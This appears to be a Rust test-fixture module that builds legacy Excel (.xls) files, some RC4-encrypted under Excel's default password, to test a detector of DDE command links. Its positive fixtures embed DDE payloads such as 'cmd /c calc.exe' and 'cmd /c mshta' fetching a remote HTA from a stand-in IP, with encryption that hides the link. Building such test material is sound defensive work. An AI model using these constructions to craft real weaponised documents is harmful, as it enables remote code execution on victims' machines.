//! Legacy Excel (.xls, BIFF8) fixtures: a Workbook stream written record by record ([MS-XLS]),
//! wrapped in an OLE compound file with the `cfb` crate, and optionally encrypted with RC4
//! CryptoAPI under Excel's default password ([MS-OFFCRYPTO] 2.3.5).
//!
//! A DDE link of a BIFF8 workbook is a SupBook record with no sheets whose `virtPath` is
//! `server\x03topic`, followed by ExternName records for its items. The encryption side is
//! written here independently of the reader in `src/formats/ole/biff/`, from the same spec, so
//! the round trip checks both.
//!
//! [MS-XLS]: https://learn.microsoft.com/openspecs/office_file_formats/ms-xls
//! [MS-OFFCRYPTO]: https://learn.microsoft.com/openspecs/office_file_formats/ms-offcrypto

use std::io::{Cursor, Write};

use rc4::{KeyInit, Rc4, StreamCipher};
use sha1::{Digest, Sha1};

/// The password Excel uses for a workbook that has none to open.
pub const VELVET_SWEATSHOP: &str = "VelvetSweatshop";

/// Record types used by the fixtures ([MS-XLS] 2.3).
pub mod rt {
    /// BOF.
    pub const BOF: u16 = 0x0809;
    /// EOF.
    pub const EOF: u16 = 0x000A;
    /// FilePass.
    pub const FILEPASS: u16 = 0x002F;
    /// InterfaceHdr (never encrypted).
    pub const INTERFACEHDR: u16 = 0x00E1;
    /// CodePage.
    pub const CODEPAGE: u16 = 0x0042;
    /// Window1.
    pub const WINDOW1: u16 = 0x003D;
    /// BoundSheet8.
    pub const BOUNDSHEET8: u16 = 0x0085;
    /// SupBook.
    pub const SUPBOOK: u16 = 0x01AE;
    /// ExternName.
    pub const EXTERNNAME: u16 = 0x0023;
    /// ExternSheet.
    pub const EXTERNSHEET: u16 = 0x0017;
    /// SST (shared strings).
    pub const SST: u16 = 0x00FC;
    /// Dimensions.
    pub const DIMENSIONS: u16 = 0x0200;
    /// Number (a cell).
    pub const NUMBER: u16 = 0x0203;
    /// Label (a text cell).
    pub const LABEL: u16 = 0x0204;
    /// Window2.
    pub const WINDOW2: u16 = 0x023E;
}

/// One BIFF8 record: type, size, data.
pub fn record(kind: u16, data: &[u8]) -> Vec<u8> {
    let size = u16::try_from(data.len()).expect("a record of at most 65,535 bytes");
    let mut out = kind.to_le_bytes().to_vec();
    out.extend(size.to_le_bytes());
    out.extend(data);
    out
}

/// The BOF of a BIFF8 substream: `dt` 0x0005 for the workbook globals, 0x0010 for a sheet.
pub fn bof(dt: u16) -> Vec<u8> {
    let mut data = 0x0600u16.to_le_bytes().to_vec();
    data.extend(dt.to_le_bytes());
    data.extend(0x2775u16.to_le_bytes()); // rupBuild
    data.extend(0x07CDu16.to_le_bytes()); // rupYear 1997
    data.extend(0x0000_80C9u32.to_le_bytes()); // flags
    data.extend(0x0000_0206u32.to_le_bytes()); // verLowestBiff, verLastXLSaved
    record(rt::BOF, &data)
}

/// Characters stored one byte each (`fHighByte` 0): every fixture string is Latin-1.
fn compressed(text: &str) -> Vec<u8> {
    text.chars()
        .map(|c| u8::try_from(u32::from(c)).expect("a Latin-1 character"))
        .collect()
}

/// An XLUnicodeString: `cch` (u16), `fHighByte` 0, characters.
fn unicode_string(text: &str) -> Vec<u8> {
    let chars = compressed(text);
    let mut out = u16::try_from(chars.len())
        .expect("short")
        .to_le_bytes()
        .to_vec();
    out.push(0);
    out.extend(chars);
    out
}

/// A SupBook of a DDE data source: no sheets, `virtPath` = `service\x03topic`.
pub fn supbook_dde(service: &str, topic: &str) -> Vec<u8> {
    let mut data = 0u16.to_le_bytes().to_vec();
    data.extend(unicode_string(&format!("{service}\u{3}{topic}")));
    record(rt::SUPBOOK, &data)
}

/// A SupBook of an external workbook at the encoded `virt_path` with `sheets`.
pub fn supbook_external(virt_path: &str, sheets: &[&str]) -> Vec<u8> {
    let mut data = u16::try_from(sheets.len())
        .expect("few")
        .to_le_bytes()
        .to_vec();
    data.extend(unicode_string(virt_path));
    for sheet in sheets {
        data.extend(unicode_string(sheet));
    }
    record(rt::SUPBOOK, &data)
}

/// The SupBook by which a workbook refers to its own `sheets` sheets (`cch` 0x0401).
pub fn supbook_self(sheets: u16) -> Vec<u8> {
    let mut data = sheets.to_le_bytes().to_vec();
    data.extend(0x0401u16.to_le_bytes());
    record(rt::SUPBOOK, &data)
}

/// An ExternName of a DDE link: `fWantAdvise`, clipboard format 0x3FF, 4 reserved bytes,
/// the item as a ShortXLUnicodeString.
pub fn extern_name_dde(item: &str) -> Vec<u8> {
    let chars = compressed(item);
    let mut data = 0x7FE2u16.to_le_bytes().to_vec();
    data.extend([0; 4]);
    data.push(u8::try_from(chars.len()).expect("short"));
    data.push(0);
    data.extend(chars);
    record(rt::EXTERNNAME, &data)
}

/// An ExternName of an external workbook's defined name (ExternDocName, no formula).
pub fn extern_name_workbook(name: &str) -> Vec<u8> {
    let chars = compressed(name);
    let mut data = vec![0, 0, 1, 0, 0, 0];
    data.push(u8::try_from(chars.len()).expect("short"));
    data.push(0);
    data.extend(chars);
    data.extend(0u16.to_le_bytes()); // cce
    record(rt::EXTERNNAME, &data)
}

/// An ExternSheet with one XTI per `(iSupBook, itabFirst, itabLast)`.
pub fn extern_sheet(refs: &[(u16, u16, u16)]) -> Vec<u8> {
    let mut data = u16::try_from(refs.len())
        .expect("few")
        .to_le_bytes()
        .to_vec();
    for (book, first, last) in refs {
        for value in [book, first, last] {
            data.extend(value.to_le_bytes());
        }
    }
    record(rt::EXTERNSHEET, &data)
}

/// A Number cell.
pub fn number(row: u16, col: u16, value: f64) -> Vec<u8> {
    let mut data = Vec::new();
    for value in [row, col, 0x000F] {
        data.extend(value.to_le_bytes());
    }
    data.extend(value.to_le_bytes());
    record(rt::NUMBER, &data)
}

/// A Label (text) cell.
pub fn label(row: u16, col: u16, text: &str) -> Vec<u8> {
    let mut data = Vec::new();
    for value in [row, col, 0x000F] {
        data.extend(value.to_le_bytes());
    }
    data.extend(unicode_string(text));
    record(rt::LABEL, &data)
}

/// A Workbook stream: globals (BOF, the optional `filepass` data, InterfaceHdr, CodePage,
/// Window1, BoundSheet8 `Sheet1`, the `links` records, EOF), then the sheet substream holding
/// `cells` (records). BoundSheet8's `lbPlyPos` points at the sheet's BOF.
pub fn workbook_stream(filepass: Option<&[u8]>, links: &[Vec<u8>], cells: &[Vec<u8>]) -> Vec<u8> {
    let mut globals = bof(0x0005);
    if let Some(pass) = filepass {
        globals.extend(record(rt::FILEPASS, pass));
    }
    globals.extend(record(rt::INTERFACEHDR, &1200u16.to_le_bytes()));
    globals.extend(record(rt::CODEPAGE, &1200u16.to_le_bytes()));
    globals.extend(record(
        rt::WINDOW1,
        &[
            0, 0, 0, 0, 0x40, 0x38, 0x20, 0x1C, 0x38, 0, 0, 0, 0, 0, 1, 0, 0x58, 2,
        ],
    ));
    let sheet_at = globals.len() + 4;
    globals.extend(record(rt::BOUNDSHEET8, b"\0\0\0\0\0\0\x06\0Sheet1"));
    for link in links {
        globals.extend(link);
    }
    globals.extend(record(rt::EOF, &[]));
    let position = u32::try_from(globals.len()).expect("small").to_le_bytes();
    globals[sheet_at..sheet_at + 4].copy_from_slice(&position);

    let mut stream = globals;
    stream.extend(bof(0x0010));
    stream.extend(record(
        rt::DIMENSIONS,
        &[0, 0, 0, 0, 4, 0, 0, 0, 0, 0, 4, 0, 0, 0],
    ));
    for cell in cells {
        stream.extend(cell);
    }
    stream.extend(record(
        rt::WINDOW2,
        &[
            0xB6, 0x06, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        ],
    ));
    stream.extend(record(rt::EOF, &[]));
    stream
}

/// An OLE compound file (version 3, 512-byte sectors, as Excel writes) holding `stream` as
/// `Workbook`.
pub fn xls(stream: &[u8]) -> Vec<u8> {
    let mut file =
        cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new()))
            .expect("creating a compound file in memory");
    {
        let mut workbook = file
            .create_stream("/Workbook")
            .expect("creating the Workbook stream");
        workbook.write_all(stream).expect("writing to memory");
    }
    file.flush().expect("writing to memory");
    file.into_inner().into_inner()
}

/// RC4 CryptoAPI keys ([MS-OFFCRYPTO] 2.3.5.2): H0 = SHA-1(salt + password as UTF-16LE); the
/// key of block `b` is the first `key_bytes` bytes of SHA-1(H0 + b).
pub struct CryptoApiKeys {
    h0: Vec<u8>,
    key_bytes: usize,
}

impl CryptoApiKeys {
    /// Keys of `key_bytes` bytes (7 to 16: 56 to 128 bits) for `password` and `salt`.
    pub fn new(password: &str, salt: &[u8], key_bytes: usize) -> Self {
        assert!((7..=16).contains(&key_bytes));
        let mut hasher = Sha1::new();
        hasher.update(salt);
        for unit in password.encode_utf16() {
            hasher.update(unit.to_le_bytes());
        }
        CryptoApiKeys {
            h0: hasher.finalize().to_vec(),
            key_bytes,
        }
    }

    /// The cipher of block `block`.
    pub fn cipher(&self, block: u32) -> Rc4 {
        let mut hasher = Sha1::new();
        hasher.update(&self.h0);
        hasher.update(block.to_le_bytes());
        let hash = hasher.finalize();
        Rc4::new_from_slice(&hash[..self.key_bytes]).expect("a valid RC4 key length")
    }
}

/// The FilePass data of RC4 CryptoAPI encryption with a 128-bit key, and its keys: the
/// verifier and its SHA-1 are encrypted together with the key of block 0.
pub fn filepass_crypto_api(
    password: &str,
    salt: [u8; 16],
    verifier: [u8; 16],
) -> (Vec<u8>, CryptoApiKeys) {
    let keys = CryptoApiKeys::new(password, &salt, 16);
    let mut encrypted = verifier.to_vec();
    encrypted.extend(Sha1::digest(verifier));
    keys.cipher(0).apply_keystream(&mut encrypted);

    let csp: Vec<u8> = "Microsoft Enhanced Cryptographic Provider v1.0\0"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut header = Vec::new();
    // Flags (fCryptoAPI), SizeExtra, AlgID (RC4), AlgIDHash (SHA-1), KeySize, ProviderType
    // (PROV_RSA_FULL), Reserved1, Reserved2.
    for field in [0x04u32, 0, 0x6801, 0x8004, 128, 1, 0, 0] {
        header.extend(field.to_le_bytes());
    }
    header.extend(csp);

    let mut data = Vec::new();
    for field in [1u16, 2, 2] {
        data.extend(field.to_le_bytes()); // wEncryptionType RC4, version 2.2
    }
    data.extend(0x04u32.to_le_bytes());
    data.extend(u32::try_from(header.len()).expect("small").to_le_bytes());
    data.extend(header);
    data.extend(16u32.to_le_bytes());
    data.extend(salt);
    data.extend(&encrypted[..16]);
    data.extend(20u32.to_le_bytes());
    data.extend(&encrypted[16..]);
    (data, keys)
}

/// Encrypts `stream` in place as Excel does ([MS-XLS] 2.2.10): the data of every record after
/// FilePass, with the keystream at the byte's position in the stream (rekeyed every 1,024
/// bytes); record headers, BOF, FilePass, InterfaceHdr (and the other records the spec
/// exempts) and the `lbPlyPos` of BoundSheet8 stay plain.
pub fn encrypt_stream(stream: &mut [u8], keys: &CryptoApiKeys) {
    const BLOCK: usize = 1024;
    let keystream_at = |position: usize| {
        let mut block = [0u8; BLOCK];
        keys.cipher(u32::try_from(position / BLOCK).expect("small"))
            .apply_keystream(&mut block);
        block[position % BLOCK]
    };
    let mut position = 0;
    let mut after_filepass = false;
    while position + 4 <= stream.len() {
        let kind = u16::from_le_bytes([stream[position], stream[position + 1]]);
        let size = usize::from(u16::from_le_bytes([
            stream[position + 2],
            stream[position + 3],
        ]));
        let data = position + 4;
        let skip = match kind {
            rt::BOF | rt::FILEPASS | rt::INTERFACEHDR | 0x0194 | 0x0195 | 0x0196 | 0x0138 => size,
            rt::BOUNDSHEET8 => 4,
            _ => 0,
        };
        if after_filepass {
            let start = data + skip;
            for (p, byte) in stream[start..data + size].iter_mut().enumerate() {
                *byte ^= keystream_at(start + p);
            }
        }
        after_filepass |= kind == rt::FILEPASS;
        position = data + size;
    }
}

/// `documents/positive/excel-legacy.xls`: a DDE link `cmd` / `/c calc.exe` with the item `A1`,
/// a self-reference and the ExternSheet that uses them.
pub fn excel_legacy() -> Vec<u8> {
    let links = [
        supbook_self(1),
        supbook_dde("cmd", "/c calc.exe"),
        extern_name_dde("A1"),
        extern_sheet(&[(0, 0, 0), (1, 0xFFFE, 0xFFFE)]),
    ];
    let cells = [number(0, 0, 1.0), label(1, 0, "Quarterly totals")];
    xls(&workbook_stream(None, &links, &cells))
}

/// `documents/positive/excel-legacy-velvet.xls`: a DDE link `cmd` / `/c mshta
/// http://198.51.100.23/v.hta` in a workbook encrypted with RC4 CryptoAPI under the default
/// password, as Excel saves a workbook that is only write-protected.
pub fn excel_legacy_velvet() -> Vec<u8> {
    let salt = *b"\x8e\x1f\x62\x0b\x3d\xa4\x57\x90\xc1\x26\xfe\x43\x7a\x08\xd5\x9b";
    let verifier = *b"\x14\xe3\x5c\x80\x2a\x9f\x61\x07\xbd\x38\xc4\x75\x0e\xf2\x4b\x96";
    let (filepass, keys) = filepass_crypto_api(VELVET_SWEATSHOP, salt, verifier);
    let links = [
        supbook_self(1),
        supbook_dde("cmd", "/c mshta http://198.51.100.23/v.hta"),
        extern_name_dde("A1"),
        extern_sheet(&[(0, 0, 0), (1, 0xFFFE, 0xFFFE)]),
    ];
    // Enough cells to run the encryption over several 1,024-byte blocks.
    let cells: Vec<Vec<u8>> = (0..120u16)
        .map(|row| number(row, 1, f64::from(row) * 1.5))
        .collect();
    let mut stream = workbook_stream(Some(&filepass), &links, &cells);
    encrypt_stream(&mut stream, &keys);
    xls(&stream)
}

/// `documents/negative/excel-legacy-benign.xls`: an external workbook link (`C:\Reports\
/// Budget.xls`, whose encoded path also uses the character 0x03) with a defined name, a
/// self-reference, and a text cell that looks like a DDE formula but is only text.
pub fn excel_legacy_benign() -> Vec<u8> {
    let links = [
        supbook_self(1),
        supbook_external("\u{1}\u{1}CReports\u{3}Budget.xls", &["Sheet1"]),
        extern_name_workbook("Total"),
        extern_sheet(&[(0, 0, 0), (1, 0, 0)]),
    ];
    let cells = [number(0, 0, 5.0), label(1, 0, "cmd|'/c calc'!A0")];
    xls(&workbook_stream(None, &links, &cells))
}

/// `documents/hostile/excel-legacy-bad-records.xls`: a DDE link `cmd` / `/c echo damaged`,
/// then a shared-string record that declares 8,224 bytes where only 12 remain: the link
/// before the damage is still reported.
pub fn excel_legacy_bad_records() -> Vec<u8> {
    let mut stream = bof(0x0005);
    stream.extend(record(rt::CODEPAGE, &1200u16.to_le_bytes()));
    stream.extend(supbook_dde("cmd", "/c echo damaged"));
    stream.extend(extern_name_dde("A1"));
    stream.extend(rt::SST.to_le_bytes());
    stream.extend(8224u16.to_le_bytes());
    stream.extend([1, 0, 0, 0, 1, 0, 0, 0, 3, 0, 0, b'a']);
    xls(&stream)
}
